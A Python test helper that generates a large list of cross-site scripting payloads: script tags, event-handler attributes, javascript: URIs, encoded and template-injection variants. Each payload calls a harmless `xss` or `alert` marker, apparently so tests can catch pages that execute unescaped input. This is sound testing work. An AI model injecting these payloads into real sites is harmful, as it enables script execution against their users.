"""Texts that run where a page writes them as markup (T32): each calls `xss`, which no honest page ever does."""

_BODIES = ("xss(1)", "xss`1`", "top.xss(1)", "alert(1)")
_TAGS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=data:,{}></script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script>",
    "<svg><animate onbegin={} attributeName=x>",
    "<img src=x onerror={}>",
    '"><img src=x onerror={}>',
    "' onerror={} src=x '",
    '" onmouseover={} x="',
    '" autofocus onfocus={} "',
    "<img/src/onerror={}>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>",
    "<a href=javascript:{} autofocus onfocus={}>x</a>",
    "<details open ontoggle={}>",
    "<video><source onerror={}>",
    "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<marquee onstart={}>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<math><a xlink:href=javascript:{}>x",
    "<form action=javascript:{}><input autofocus>",
    "<button formaction=javascript:{} autofocus>",
    "<link rel=stylesheet onload={} href=/>",
    "<meta http-equiv=refresh content='0;javascript:{}'>",
    "<style onload={}></style>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><img src=x onerror={}></template>",
    "<xss id=x tabindex=1 onfocus={} autofocus>",
    "<p style=animation-name:x onanimationend={}>",
    "<base href=javascript:{}//>",
    "&lt;img src=x onerror={}&gt;",
    "&#60;img src=x onerror={}&#62;",
    "\\u003cimg src=x onerror={}\\u003e",
    "%3Cimg src=x onerror={}%3E",
    "＜img src=x onerror={}＞",
    "javascript:{}",
    "JaVaScRiPt:{}//",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "$t({})",
    "<%= {} %>",
    "[x](javascript:{})",
    "![x](x onerror={})",
    "<mark>x</mark><img src=x onerror={}>",
    "<em><svg onload={}></em>",
    "__proto__[onerror]={}",
    "x'-{}-'",
    'x"-{}-"',
    "x`-{}-`",
    "</script><script>{}</script>",
    "<!--<img src='--><img src=x onerror={}>'",
)
PAYLOADS = tuple(dict.fromkeys(tag.format(*[body] * tag.count("{}")) for tag in _TAGS for body in (*_BODIES[:2], _BODIES[3])))


def short(most: int) -> list[str]:
    """Those that fit, whole."""
    return [payload for payload in PAYLOADS if len(payload) <= most]


def packed(most: int) -> list[str]:
    """All of them in as few texts of that length as they fit in."""
    found: list[str] = []
    for payload in short(most):
        if found and len(found[-1]) + len(payload) + 1 <= most:
            found[-1] += " " + payload
        else:
            found.append(payload)
    return found
